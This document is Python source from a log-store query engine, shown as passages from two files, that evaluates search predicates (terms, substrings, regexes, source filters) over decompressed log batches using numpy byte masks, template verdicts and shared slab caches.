    # local import: querylang can't import logstore at module level
    from ..core import querylang as ql

    if isinstance(query, (ql.Term, ql.Contains)):
        text = query.text.lower()  # repro: allow[R4] query-side fold paired with the slab's line-side fold; non-ASCII needles route to nonascii_lines (exact path) below
        is_term = isinstance(query, ql.Term)
        if not text or "\n" in text:
            # "" is in every line (but never a token); a needle with \n can
            # never occur inside one line
            return _const(bool(not is_term and not text))
        try:
            needle = text.encode("ascii")
        except UnicodeEncodeError:
            # non-ASCII needle ⇒ any match lies on a non-ASCII line, and
            # those always take the exact path
            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                return slab.nonascii_lines, np.zeros(slab.n_lines, dtype=bool)

            return node
        if not is_term:

            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                tv = slab.template_verdicts(needle, False)
                if tv is None or not (tv[0].any() or tv[1].any()):
                    m = slab.occurrence_lines(needle, spans)
                    return m, m
                # decided lines skip the byte scan: YES lines are hits by
                # template membership, NO lines can't match; only undecided
                # byte ranges get scanned
                yes, no = tv
                m = yes.copy()
                sub = slab.lines_spans(~(yes | no), spans)
                if sub:
                    m |= slab.occurrence_lines(needle, sub)
                return m, m

            return node
        if is_single_alnum_run(text):

            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                tv = slab.template_verdicts(needle, True)
                if tv is None or not (tv[0].any() or tv[1].any()):
                    m = slab.token_lines(needle, spans)
                    return m, m
                yes, no = tv
                m = yes.copy()
                sub = slab.lines_spans(~(yes | no), spans)
                if sub:
                    m |= slab.token_lines(needle, sub)
                return m, m

            return node

        # multi-run term: the substring scan bounds it; survivors re-tokenize
        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            return (
                slab.occurrence_lines(needle, spans),
                np.zeros(slab.n_lines, dtype=bool),
            )

        return node
    if isinstance(query, ql.Regex):
        from ..core.regex_prefilter import analyze, compiled

        info = analyze(query.pattern, query.flags)
        if not info.slab_safe:
            # the pattern could match "\n" or anchor to the slab (\A/\Z,
            # (?-m:...)): no slab-level verdict is sound.  Every line stays
            # a maybe and none a definite, so ALL maybe-lines route to the
            # exact matcher — which also keeps Not(Regex) exact, since the
            # complemented ~definitely leaves every line a maybe again.
            def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
                return (
                    np.ones(slab.n_lines, dtype=bool),
                    np.zeros(slab.n_lines, dtype=bool),
                )

            return node
        rx = compiled(query.pattern, query.flags | re.MULTILINE)
        dnf = info.dnf if query.prefilter else None
        dnf_b = (
            tuple(tuple(lit.encode("ascii") for lit in branch) for branch in dnf)
            if dnf
            else None
        )

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            sub = spans
            if dnf_b:
                # literal prefilter on the slab bytes: an ASCII line matching
                # the regex contains every literal of some branch in its
                # lowered bytes (the extraction invariant), so cheap
                # occurrence scans bound the expensive compiled-regex scan.
                # This subsumes the template no-verdict (a line whose bytes
                # contain a literal never gets a NO template verdict), so no
                # separate template pass is needed.  Non-ASCII lines may be
                # dropped here — the callers always route them to the exact
                # matcher regardless of masks.
                occ: "np.ndarray | None" = None
                for branch in dnf_b:
                    br: "np.ndarray | None" = None
                    for lit in branch:
                        bl = slab.occurrence_lines(lit, sub)
                        br = bl if br is None else (br & bl)
                        if not br.any():
                            break
                    occ = br if occ is None else (occ | br)
                if occ is not None and not occ.all():
                    sub = slab.lines_spans(occ, spans)
                    if not sub:
                        z = np.zeros(slab.n_lines, dtype=bool)
                        return z, z
            m = slab.regex_lines(rx, sub)
            # exact on ASCII lines (the slab-safety contract); non-ASCII
            # lines are force-routed to the exact matcher by the callers
            return m, m

        return node
    if isinstance(query, ql.Source):
        name = query.name

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            m = slab.group_lines(name)
            return m, m

        return node
    if isinstance(query, ql.And):
        if not query.children:
            return _const(True)
        kids = [_compile(c) for c in query.children]

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            maybe = definite = None
            for kid in kids:
                m, d = kid(slab, spans)
                maybe = m if maybe is None else maybe & m
                definite = d if definite is None else definite & d
            return maybe, definite

        return node
    if isinstance(query, ql.Or):
        if not query.children:
            return _const(False)
        kids = [_compile(c) for c in query.children]

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            maybe = definite = None
            for kid in kids:
                m, d = kid(slab, spans)
                maybe = m if maybe is None else maybe | m
                definite = d if definite is None else definite | d
            return maybe, definite

        return node
    if isinstance(query, ql.Not):
        kid = _compile(query.child)

        def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
            m, d = kid(slab, spans)
            return ~d, ~m

        return node
    raise TypeError(f"unknown query node: {query!r}")


# -- template prepass: whole-query verdicts per template ----------------------------


def _tpl_uniform(n: int, v: int) -> np.ndarray:
    return np.full(n, v, dtype=np.int8)


def _tpl_query_verdicts(
    query: Query, blob: bytes, group: str, leaf_cache: dict, n_templates: int
) -> np.ndarray:
    """Evaluate the whole query once per template: ``1`` = every line of the
    template matches, ``-1`` = no line can, ``0`` = undecided.  Three-valued
    (Kleene) combination mirrors ``_compile``'s mask algebra; leaves share
    the same ``constant_verdicts`` cache (and keys) the slab path uses."""
    # local import: querylang can't import logstore at module level
    from ..core import querylang as ql
    from .templates import constant_verdicts

    if isinstance(query, (ql.Term, ql.Contains)):
        text = query.text.lower()  # repro: allow[R4] query-side fold, identical to _compile's — verdicts and byte scans see the same needle
        is_term = isinstance(query, ql.Term)
        if not text or "\n" in text:
            return _tpl_uniform(n_templates, 1 if (not is_term and not text) else -1)
        if not text.isascii():
            # only non-ASCII lines can match, and those take the exact path
            return _tpl_uniform(n_templates, 0)
        clamp_yes = is_term and not is_single_alnum_run(text)
        key = (blob, text, is_term and not clamp_yes)
        v = leaf_cache.get(key)
        if v is None:
            v = leaf_cache[key] = constant_verdicts(blob, text, key[2])
        if clamp_yes:
            # multi-run term: substring occurrence is necessary, not
            # sufficient — NO stands, YES degrades to undecided
            return np.minimum(v, 0)
        return v
    if isinstance(query, ql.Regex):
        if not query.prefilter:
            return _tpl_uniform(n_templates, 0)
        from ..core.regex_prefilter import analyze

        dnf = analyze(query.pattern, query.flags).dnf
        if dnf is None:
            return _tpl_uniform(n_templates, 0)
        if not dnf:  # every literal branch required a "\n": matches no line
            return _tpl_uniform(n_templates, -1)
        out = _tpl_uniform(n_templates, -1)
        for branch in dnf:
            br = _tpl_uniform(n_templates, 1)
            for lit in branch:
                key = (blob, lit, False)
                v = leaf_cache.get(key)
                if v is None:
                    v = leaf_cache[key] = constant_verdicts(blob, lit, False)
                br = np.minimum(br, v)
            out = np.maximum(out, br)
        # literal containment is necessary but never sufficient for a regex
        # match: NO stands, YES degrades to undecided (clamped like the
        # multi-run Term), which stays sound through Not's sign flip
        return np.minimum(out, 0)
    if isinstance(query, ql.Source):
        return _tpl_uniform(n_templates, 1 if query.name == group else -1)
    if isinstance(query, ql.And):
        out = _tpl_uniform(n_templates, 1)
        for c in query.children:
            out = np.minimum(
                out, _tpl_query_verdicts(c, blob, group, leaf_cache, n_templates)
            )
        return out
    if isinstance(query, ql.Or):
        out = _tpl_uniform(n_templates, -1)
        for c in query.children:
            out = np.maximum(
                out, _tpl_query_verdicts(c, blob, group, leaf_cache, n_templates)
            )
        return out
    if isinstance(query, ql.Not):
        return -_tpl_query_verdicts(query.child, blob, group, leaf_cache, n_templates)
    raise TypeError(f"unknown query node: {query!r}")


def _has_source(query: Query) -> bool:
    """True when any leaf is group-sensitive — verdicts then key per group."""
    from ..core import querylang as ql

    if isinstance(query, ql.Source):
        return True
    kids = getattr(query, "children", None)
    if kids is not None:
        return any(_has_source(c) for c in kids)
    child = getattr(query, "child", None)
    return child is not None and _has_source(child)


def _has_regex(query: Query) -> bool:
    """True when any leaf is a ``Regex`` — such queries skip the per-query
    template prepass: the column probes cannot decide a regex, so the
    prepass devolves into per-batch Python bookkeeping, while the shared
    slabs amortize rendering across the whole ``search_many`` call and the
    literal occurrence prefilter narrows the scan at byte speed."""
    from ..core import querylang as ql

    if isinstance(query, ql.Regex):
        return True
    kids = getattr(query, "children", None)
    if kids is not None:
        return any(_has_regex(c) for c in kids)
    child = getattr(query, "child", None)
    return child is not None and _has_regex(child)


def _probe_text(query: Query) -> "str | None":
    """The folded needle when the whole query is one ASCII Contains leaf —
    the shape the column probes (templates.probe_plans) can decide exactly."""
    from ..core import querylang as ql

    if not isinstance(query, ql.Contains):
        return None
    text = query.text.lower()  # repro: allow[R4] query-side fold, identical to _compile's
    if not text or "\n" in text or not text.isascii():
        return None
    return text


_MISSING = object()


class CompiledPredicate:
    """Per-line predicate + its vectorized batch evaluator.

    Drop-in for the bare ``pred(raw_line, source)`` callable that
    ``_filter_batches`` implementations receive: calling it evaluates one
    line exactly (the tail/unsealed path; the line is raw — the matcher
    lowercases internally when a node needs it), while the sealed path
    recognizes the wrapper and routes whole payload slabs through the
    byte-level evaluator.  ``payloads`` is the decompressed-payload cache shared across
    one ``search_many`` call (one decompression per candidate batch per
    *search*, preserving the paper's false-positive cost accounting).
    """

    def __init__(
        self,
        query: Query,
        payload_cache: dict[int, bytes] | None = None,
        template_cache: dict | None = None,
        column_cache: "dict[int, Any] | None" = None,
    ) -> None:
        self.query = query
        self.matcher = line_matcher(query)
        self.vector = _compile(query)
        self.payloads: dict[int, bytes] = (
            payload_cache if payload_cache is not None else {}
        )
        #: template-dictionary verdicts shared across one ``search_many``
        #: call, keyed (dict blob, needle, is_term) — constants match once
        #: per template per call, not once per batch
        self.templates: dict = template_cache if template_cache is not None else {}
        #: parsed columnar payload views shared across one call, keyed by
        #: batch id (``None`` = blob needs the scalar fallback decoder)
        self.payload_cols: "dict[int, Any]" = (
            column_cache if column_cache is not None else {}
        )
        #: whole-query per-template verdicts, keyed (dict blob, group); a
        #: group-insensitive query (no Source leaf) shares one entry per blob
        self._query_verdicts: "dict[tuple[bytes, str], np.ndarray]" = {}
        #: verdicts regrouped as template-id lists (see verdict_sets)
        self._verdict_lists: "dict[tuple[bytes, str], tuple]" = {}
        self._group_free = not _has_source(query)
        #: single-Contains probe needle, or None (see _probe_text)
        self.probe_text = _probe_text(query)
        #: Regex-bearing queries bypass the template prepass (see _has_regex)
        self.prefer_slab = _has_regex(query)
        #: slabs shared across the queries of one ``search_many`` call
        #: (set by ``execute_search``; None → build per-query slabs)
        self.slab_union: SlabUnion | None = None
        self.n_lines_scanned = 0
        self.n_lines_exact = 0

    def __call__(self, line: str, source: str) -> bool:
        return self.matcher(line, source)

    def payload(self, batch: Any) -> bytes:
        p = self.payloads.get(batch.batch_id)
        if p is None:
            if getattr(batch, "tpl", None) is not None:
                # template codec: assemble from the cached columnar view so
                # the expensive render memoizes with it; same bytes as the
                # codec's own reconstruction (asserted by the parity tests)
                from .templates import _Unsupported

                try:
                    p = self.columns(batch).blob_bytes()
                except _Unsupported:
                    p = batch.payload_bytes()
            else:
                p = batch.payload_bytes()  # raw codec: one decompression
            self.payloads[batch.batch_id] = p
        return p

    def columns(self, batch: Any) -> Any:
        """Columnar view of a template-codec batch's variables blob, cached
        per call (header parse is eager, value layout lazy)."""
        got = self.payload_cols.get(batch.batch_id)
        if got is None:
            from .templates import PayloadColumns, decode_dict

            got = PayloadColumns(decode_dict(batch.tpl), batch.payload)
            self.payload_cols[batch.batch_id] = got
        return got

    def query_verdicts(self, blob: bytes, group: str) -> np.ndarray:
        if self._group_free:
            group = ""
        v = self._query_verdicts.get((blob, group))
        if v is None:
            from .templates import decode_dict

            v = _tpl_query_verdicts(
                self.query, blob, group, self.templates, len(decode_dict(blob))
            )
            self._query_verdicts[(blob, group)] = v
        return v

    def verdict_sets(
        self, blob: bytes, group: str
    ) -> "tuple[bool, list[int], list[int], list[int]]":
        """``(all_no, yes, und, no)`` — the whole-query verdicts regrouped as
        template-id lists, cached per (dict blob, group) like the verdicts
        themselves.  The per-batch triage then runs as plain list filtering
        (a dictionary holds tens of templates — numpy costs more than it
        saves at that size)."""
        if self._group_free:
            group = ""
        got = self._verdict_lists.get((blob, group))
        if got is None:
            v = self.query_verdicts(blob, group)
            got = (
                int(v.max(initial=-1)) == -1,
                np.flatnonzero(v == 1).tolist(),
                np.flatnonzero(v == 0).tolist(),
                np.flatnonzero(v == -1).tolist(),
            )
            self._verdict_lists[(blob, group)] = got
        return got


class SlabUnion:
    """Canonical slabs over the union of one ``search_many`` call's
    candidate batches, shared by every query in the call.

    Each query in a batched call largely re-reads the batches its siblings
    already verified; without sharing, every query re-joins, re-lowercases
    and re-indexes the same decompressed bytes.  The union is chunked once
    (``SLAB_TARGET_BYTES``), each chunk's :class:`Slab` is built lazily on
    first use, and a query then scans only the byte spans of *its own*
    candidate batches inside the shared slab (``Slab.spans_for``), masking
    results to its candidate lines — so per-query work stays proportional
    to the query's own candidates while construction amortizes across the
    call.  Like the payload cache, the union never outlives its call.
    """

    def __init__(self, union_ids: list[int]) -> None:
        self._union = union_ids  # sorted ascending
        # single-thread ownership: slabs build lazily with no internal
        # locking, so cross-thread use would race — fan-out workers must
        # bypass the union (filter_sealed_vectorized(use_shared=False)).
        # Fail loudly instead of corrupting silently.
        self._owner = threading.get_ident()
        self._batches = None
        self.chunks: list[list[int]] = []
        self.index: dict[int, tuple[int, int]] = {}
        self._slabs: list[Slab | None] = []

    def bind(self, batches: "Mapping[int, Any]") -> bool:
        """Bind to a concrete sealed-batch mapping on first use; True when
        this call's ``batches`` is the mapping the union was built over."""
        self._assert_owner()
        if self._batches is None:
            self._batches = batches
            sealed = [bid for bid in self._union if batches.get(bid) is not None]
            self.chunks = _chunk_by_bytes(sealed, batches)
            self.index = {
                bid: (ci, pi)
                for ci, chunk in enumerate(self.chunks)
                for pi, bid in enumerate(chunk)
            }
            self._slabs = [None] * len(self.chunks)
        return self._batches is batches

    def slab(self, ci: int, pred: "CompiledPredicate") -> Slab:
        self._assert_owner()
        s = self._slabs[ci]
        if s is None:
            bs = [self._batches[bid] for bid in self.chunks[ci]]
            s = Slab(
                [pred.payload(b) for b in bs],
                [b.group for b in bs],
                tpl_info=_batch_tpl_info(bs),
                tpl_cache=pred.templates,
            )
            self._slabs[ci] = s
        return s

    def _assert_owner(self) -> None:
        if threading.get_ident() != self._owner:
            raise RuntimeError(
                "SlabUnion accessed from a second thread: the shared-slab "
                "cache is single-thread state scoped to one search_many "
                "call — parallel workers must pass use_shared=False "
                "(see docs/invariants.md)"
            )


def _batch_tpl_info(bs: list[Any]) -> "list[tuple[bytes, Any] | None] | None":
    """Per-payload ``(dict blob, vars blob)`` for template-codec batches, or
    ``None`` when no batch in the run carries a template dictionary."""
    if all(getattr(b, "tpl", None) is None for b in bs):
        return None
    return [None if b.tpl is None else (bytes(b.tpl), b.payload) for b in bs]


def _chunk_by_bytes(ids: list[int], batches: "Mapping[int, Any]") -> list[list[int]]:
    chunks: list[list[int]] = []
    cur: list[int] = []
    cur_bytes = 0
    for bid in ids:
        cur.append(bid)
        cur_bytes += batches[bid].raw_bytes
        if cur_bytes >= SLAB_TARGET_BYTES:
            chunks.append(cur)
            cur, cur_bytes = [], 0
    if cur:
        chunks.append(cur)
    return chunks


def _resolve_hits(
    slab: Slab, hits: np.ndarray, uncertain: np.ndarray, pred: CompiledPredicate
) -> "tuple[np.ndarray, list[str]]":
    """Exact-check the uncertain lines, then decode every hit; returns the
    hit line indices alongside the decoded lines (batch attribution)."""
    pred.n_lines_exact += uncertain.size
    if uncertain.size:
        matcher, groups = pred.matcher, slab.groups
        line_text, line_batch = slab.line_text, slab.line_batch
        for i in uncertain.tolist():
            if matcher(line_text(i), groups[line_batch[i]]):
                hits[i] = True
    idx = np.flatnonzero(hits)
    return idx, slab.lines_at(idx)


def _hits_by_batch(
    slab: Slab,
    idx: np.ndarray,
    lines: list[str],
    chunk_bids: list[int],
    out: dict[int, list[str]],
) -> None:
    """Attribute resolved hit lines to their batch ids.  ``idx`` is
    ascending, so the payload indices are non-decreasing and each batch's
    lines form one contiguous run."""
    if not idx.size:
        return
    pb = slab.line_batch[idx]
    upos, starts = np.unique(pb, return_index=True)
    bounds = starts.tolist() + [idx.size]
    for k, p in enumerate(upos.tolist()):
        out[chunk_bids[int(p)]] = lines[bounds[k] : bounds[k + 1]]


def _tpl_prepass(
    batches: "Mapping[int, Any]",
    ids: list[int],
    pred: CompiledPredicate,
) -> "tuple[dict[int, list[str]], list[int]]":
    """Template-codec fast path over the candidate batches.

    Evaluates the whole query once per template (``_tpl_query_verdicts``)
    for each template-codec batch: YES-template lines are emitted by
    selective columnar rendering, NO-template lines are skipped without
    reconstruction, and only undecided-template lines are rendered and
    byte-scanned through mini slabs.  Returns ``(handled, rest)`` — result
    lines per fully-resolved batch id, plus the ids that take the ordinary
    slab path (raw codec, scalar-fallback blobs, or fully-undecided
    verdicts, where one big slab amortizes better).  Exactness mirrors the
    slab path: non-ASCII rendered lines are always re-checked by the exact
    predicate, whatever the verdict says.
    """
    from .templates import _Unsupported, probe_plans

    handled: dict[int, list[str]] = {}
    rest: list[int] = []
    pend: list[tuple[int, np.ndarray, list[str], np.ndarray, list[str]]] = []
    probe_text = pred.probe_text
    for bid in ids:
        b = batches[bid]
        if getattr(b, "tpl", None) is None:
            rest.append(bid)
            continue
        blob = bytes(b.tpl)
        all_no, v_yes, v_und, v_no = pred.verdict_sets(blob, b.group)
        if all_no:
            handled[bid] = []  # the whole dictionary is NO: skip the payload
            continue
        cols = pred.columns(b)
        counts_l = cols.counts_l
        yes_sel = [t for t in v_yes if counts_l[t]]
        und_sel = [t for t in v_und if counts_l[t]]
        if not yes_sel and not und_sel:
            handled[bid] = []  # every present template is NO: nothing decoded
            continue
        plans = (
            probe_plans(blob, probe_text)
            if probe_text is not None and und_sel
            else None
        )
        if not yes_sel and not any(counts_l[t] for t in v_no):
            # fully undecided: probes still beat reconstruction when every
            # present template has a plan; otherwise one big slab amortizes
            if plans is None or any(plans[t] is None for t in und_sel):
                rest.append(bid)
                continue
        try:
            # column probes decide undecided templates per value — no line
            # rendering, no byte scan; unsupported templates fall through to
            # the rendered mini-slab path below
            und_left: list[int] = []
            probe_idx: list[np.ndarray] = []
            probe_lines: list[str] = []
            if und_sel:
                for t in und_sel:
                    entries = plans[t] if plans is not None else None
                    hits = (
                        cols.probe_cached(t, entries, probe_text)
                        if entries is not None
                        else None
                    )
                    if hits is None:
                        und_left.append(t)
                        continue
                    pred.n_lines_scanned += counts_l[t]
                    if hits.size:
                        rendered = cols._render_tpl(t)
                        probe_idx.append(cols.members(t)[hits])
                        probe_lines.extend(rendered[j] for j in hits.tolist())
            yes_idx, yes_lines = cols.lines_for(yes_sel)
            und_idx, und_lines = cols.lines_for(und_left)
        except _Unsupported:  # rare blob shape: scalar decoding via the slab path
            rest.append(bid)
            continue
        na = [j for j, s in enumerate(yes_lines) if not s.isascii()]
        if na:
            pred.n_lines_scanned += len(na)
            pred.n_lines_exact += len(na)
            bad = {
                j
                for j in na
                if not pred.matcher(yes_lines[j], b.group)
            }
            if bad:
                keep = [j for j in range(len(yes_lines)) if j not in bad]
                yes_idx = yes_idx[keep]
                yes_lines = [yes_lines[j] for j in keep]
        if probe_idx:
            yes_idx = np.concatenate([yes_idx] + probe_idx)
            yes_lines = yes_lines + probe_lines
            srt = np.argsort(yes_idx, kind="stable")
            yes_idx = yes_idx[srt]
            yes_lines = [yes_lines[j] for j in srt.tolist()]
        if und_lines:
            pend.append((bid, und_idx, und_lines, yes_idx, yes_lines))
        else:
            handled[bid] = yes_lines
    # byte-scan the undecided lines, mini slabs bounded like the main path
    done = 0
    while done < len(pend):
        chunk: list[tuple[int, np.ndarray, list[str], np.ndarray, list[str]]] = []
        size = 0
        while done < len(pend) and (not chunk or size < SLAB_TARGET_BYTES):
            entry = pend[done]
            chunk.append(entry)
            size += sum(map(len, entry[2])) + len(entry[2])
            done += 1
        slab = Slab(
            ["\n".join(e[2]).encode("utf-8") for e in chunk],
            [batches[e[0]].group for e in chunk],
        )
        maybe, definite = pred.vector(slab)
        nonascii = slab.nonascii_lines
        scan_hits = definite & ~nonascii
        uncertain = nonascii | (maybe & ~definite)
        pred.n_lines_scanned += slab.n_lines
        off = 0
        for bid, und_idx, und_lines, yes_idx, yes_lines in chunk:
            k = len(und_lines)
            h = scan_hits[off : off + k]
            u = np.flatnonzero(uncertain[off : off + k])
            if u.size:
                pred.n_lines_exact += u.size
                g = batches[bid].group
                for j in u.tolist():
                    if pred.matcher(und_lines[j], g):
                        h[j] = True
            sel = np.flatnonzero(h)
            idx = np.concatenate([yes_idx, und_idx[sel]])
            srt = np.argsort(idx, kind="stable")
            all_lines = yes_lines + [und_lines[j] for j in sel.tolist()]
            handled[bid] = [all_lines[j] for j in srt.tolist()]
            off += k
    return handled, rest


def _filter_shared(
    union: SlabUnion,
    batch_ids: Iterable[int],
    pred: CompiledPredicate,
    out: dict[int, list[str]],
) -> None:
    """Per-query verify against the call-shared slabs: scan only this
    query's candidate spans, mask every verdict to its candidate lines."""
    by_chunk: dict[int, list[int]] = {}
    index = union.index
    for bid in batch_ids:
        loc = index.get(bid)
        if loc is not None:
            by_chunk.setdefault(loc[0], []).append(loc[1])
    for ci in sorted(by_chunk):
        slab = union.slab(ci, pred)
        pos = np.asarray(by_chunk[ci], dtype=np.int64)
        cand = slab.payload_line_mask(pos)
        maybe, definite = pred.vector(slab, slab.spans_for(pos))
        nonascii = slab.nonascii_lines
        hits = definite & cand & ~nonascii
        uncertain = np.flatnonzero(cand & (nonascii | (maybe & ~definite)))
        pred.n_lines_scanned += int(np.count_nonzero(cand))
        idx, lines = _resolve_hits(slab, hits, uncertain, pred)
        _hits_by_batch(slab, idx, lines, union.chunks[ci], out)


def filter_sealed_vectorized(
    batches: "Mapping[int, Any]",
    batch_ids: Iterable[int],
    pred: CompiledPredicate,
    use_shared: bool = True,
) -> tuple[list[str], int]:
    """Vectorized body of ``filter_sealed_batches``: same contract —
    matching lines in batch-id order plus the number of batches verified."""
    ids = [bid for bid in batch_ids if batches.get(bid) is not None]
    if pred.prefer_slab:
        by_bid, rest = {}, ids
    else:
        by_bid, rest = _tpl_prepass(batches, ids, pred)
    # once the prepass has diverted batches, the leftover set is query-
    # specific — the call-shared chunks would materialize whole payload runs
    # for a few stragglers, so those take per-query slabs instead
    union = pred.slab_union if use_shared and not by_bid else None
    if union is not None and union.bind(batches):
        _filter_shared(union, rest, pred, by_bid)
    else:
        for chunk in _chunk_by_bytes(rest, batches):
            bs = [batches[bid] for bid in chunk]
            payloads = [pred.payload(b) for b in bs]
            groups = [b.group for b in bs]
            slab = Slab(payloads, groups, tpl_info=_batch_tpl_info(bs), tpl_cache=pred.templates)
            maybe, definite = pred.vector(slab)
            nonascii = slab.nonascii_lines
            hits = definite & ~nonascii
            uncertain = np.flatnonzero(nonascii | (maybe & ~definite))
            pred.n_lines_scanned += slab.n_lines
            idx, lines = _resolve_hits(slab, hits, uncertain, pred)
            _hits_by_batch(slab, idx, lines, chunk, by_bid)
    out: list[str] = []
    for bid in ids:
        got = by_bid.get(bid)
        if got:
            out.extend(got)
    return out, len(ids)
