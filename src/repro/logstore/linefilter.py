"""Vectorized exact post-filter: byte-level query evaluation over payloads.

The Result phase of the pipeline historically decompressed each candidate
batch, lowercased every line, and ran the compiled per-line predicate — a
Python-level loop whose per-line cost dominated query latency (ROADMAP open
item 1).  This module evaluates the same predicate over whole *slabs*: the
decompressed payloads of a run of candidate batches, joined with ``\\n`` and
viewed as one numpy uint8 array.  Leaf predicates become occurrence scans
(case-insensitive two-way byte compares anchored on the needle's rarest
byte), token-boundary checks become table lookups on the neighbor bytes, and
the boolean structure combines per-line masks.

**Exactness contract.**  The verdict per line is two-sided — ``maybe`` ⊇
matching lines and ``definitely`` ⊆ matching lines — and only lines in
``maybe & ~definitely`` fall back to the exact per-line predicate
(:func:`repro.core.querylang.line_predicate`), so the final line set is
bit-identical to the legacy loop.  Three seams make byte-level ≠ str-level,
and each is handled conservatively:

* **Non-ASCII lines.**  ``str.lower`` can materialize ASCII characters out
  of non-ASCII ones (U+212A KELVIN SIGN → ``k``, U+0130 → ``i`` + combining
  dot), so a byte scan can *miss* matches on such lines — and through a
  ``Not`` a miss would surface as a phantom hit.  Every line containing a
  byte ≥ 0x80 is therefore always evaluated by the exact predicate,
  whatever the vectorized verdict says.
* **Term tokenization.**  Only a single ``[a-z0-9]+``-run term is decided
  exactly in bytes (occurrence + non-alnum neighbors ⇔ it is a maximal
  rule-1 run ⇔ full-token membership); any other term shape keeps the
  occurrence scan as ``maybe`` and re-tokenizes the surviving lines.
* **Needle shape.**  Needles that aren't ASCII-encodable can only match
  non-ASCII lines (their UTF-8 bytes are ≥ 0x80), which fall back anyway;
  needles containing ``\\n`` can never match a line at all.

Decompression is the dominant per-batch cost the paper charges to false
positives; :class:`CompiledPredicate` shares one decompressed-payload cache
across the queries of a single ``search_many`` call (never across calls, so
every false positive still costs its decompression per search).
"""

from __future__ import annotations

import threading
from typing import Any, Callable, Iterable, Mapping

import numpy as np

from ..core.querylang import Query, line_predicate
from .batch import decompress
from .tokenizer import is_single_alnum_run

#: compiled query node: (slab, candidate byte spans) -> (maybe, definitely) line masks
NodeFn = Callable[..., "tuple[np.ndarray, np.ndarray]"]

_NL = 0x0A

#: cap on joined decompressed bytes per slab — bounds peak memory on
#: fallback scans over large corpora; chunk boundaries preserve line order
SLAB_TARGET_BYTES = 32 << 20


def _alnum_table() -> np.ndarray:
    alnum = np.zeros(256, dtype=bool)
    for lo, hi in ((0x30, 0x39), (0x41, 0x5A), (0x61, 0x7A)):
        alnum[lo : hi + 1] = True
    return alnum


_ALNUM_BYTE = _alnum_table()


class Slab:
    """One contiguous byte view over a run of decompressed batch payloads.

    Payload ``i`` occupies ``[starts of its lines)``; payloads are joined
    with ``\\n`` so line splitting is a single newline scan.  Line ``i`` is
    ``buf[line_starts[i] : line_ends[i]]``; ``line_batch[i]`` maps it back
    to its batch for source lookups and per-line fallbacks.
    """

    def __init__(self, payloads: list[bytes], groups: list[str]) -> None:
        self.buf = b"\n".join(payloads)
        self.arr = np.frombuffer(self.buf, dtype=np.uint8)
        nl = np.flatnonzero(self.arr == _NL)
        self.n_lines = nl.size + 1
        self.line_starts = np.empty(self.n_lines, dtype=np.int64)
        self.line_starts[0] = 0
        self.line_starts[1:] = nl + 1
        self.line_ends = np.empty(self.n_lines, dtype=np.int64)
        self.line_ends[:-1] = nl
        self.line_ends[-1] = self.arr.size
        self.groups = groups
        self._nonascii: np.ndarray | None = None
        self._lower: bytes | None = None
        self._line_batch: np.ndarray | None = None
        self._maxb: int | None = None
        self._offs: np.ndarray | None = None
        self._payload_nlines: np.ndarray | None = None
        self._payload_lens = np.asarray([len(p) for p in payloads], dtype=np.int64)

    @property
    def lower_buf(self) -> bytes:
        """The slab bytes ASCII-lowercased, built once per slab.  Occurrence
        scans run ``bytes.find`` over this (memchr-speed single pass) instead
        of multi-pass numpy compares.  ``bytes.lower`` IS the ASCII fold
        (A–Z → a–z, every other byte unchanged), done in C."""
        if self._lower is None:
            self._lower = self.buf.lower()  # repro: allow[R4] bytes.lower IS the ASCII fold — non-ASCII bytes pass through unchanged, and non-ASCII lines take the exact path
        return self._lower

    @property
    def payload_offs(self) -> np.ndarray:
        """Byte offset of each payload's first line within ``buf``."""
        if self._offs is None:
            lens = self._payload_lens
            offs = np.zeros(lens.size, dtype=np.int64)
            if lens.size > 1:
                np.cumsum(lens[:-1] + 1, out=offs[1:])
            self._offs = offs
        return self._offs

    @property
    def line_batch(self) -> np.ndarray:
        """Line index → payload index, built lazily (only group lookups and
        per-line fallbacks need it)."""
        if self._line_batch is None:
            self._line_batch = (
                np.searchsorted(self.payload_offs, self.line_starts, side="right")
                - 1
            )
        return self._line_batch

    def spans_for(self, pos: np.ndarray) -> list[tuple[int, int]]:
        """Byte spans ``[lo, hi)`` covering the given sorted payload indices,
        contiguous payload runs merged (matches never cross the ``\\n``
        separators, so merging only saves scan-loop iterations)."""
        breaks = np.flatnonzero(np.diff(pos) != 1)
        run_a = np.concatenate([pos[:1], pos[breaks + 1]])
        run_b = np.concatenate([pos[breaks], pos[-1:]])
        offs = self.payload_offs
        lens = self._payload_lens
        return list(zip(offs[run_a].tolist(), (offs[run_b] + lens[run_b]).tolist()))

    @property
    def payload_nlines(self) -> np.ndarray:
        """Line count of each payload (shared; feeds payload_line_mask)."""
        if self._payload_nlines is None:
            self._payload_nlines = np.bincount(
                self.line_batch, minlength=len(self._payload_lens)
            )
        return self._payload_nlines

    def payload_line_mask(self, pos: np.ndarray) -> np.ndarray:
        """Bool mask over lines belonging to the given payload indices."""
        sel = np.zeros(len(self._payload_lens), dtype=bool)
        sel[pos] = True
        return np.repeat(sel, self.payload_nlines)

    @property
    def nonascii_lines(self) -> np.ndarray:
        """Bool mask of lines containing any byte ≥ 0x80 (always re-checked
        by the exact predicate — see the module docstring)."""
        if self._nonascii is None:
            if self._max_byte() < 0x80:  # pure-ASCII slab: one reduce, no scan
                self._nonascii = np.zeros(self.n_lines, dtype=bool)
            else:
                mask = np.zeros(self.n_lines, dtype=bool)
                pos = np.flatnonzero(self.arr >= 0x80)
                if pos.size:
                    mask[np.unique(self.line_of(pos))] = True
                self._nonascii = mask
        return self._nonascii

    def _max_byte(self) -> int:
        if self._maxb is None:
            self._maxb = int(self.arr.max(initial=0))
        return self._maxb

    def line_of(self, offsets: np.ndarray) -> np.ndarray:
        """Line index for content-byte offsets (offsets never point at a
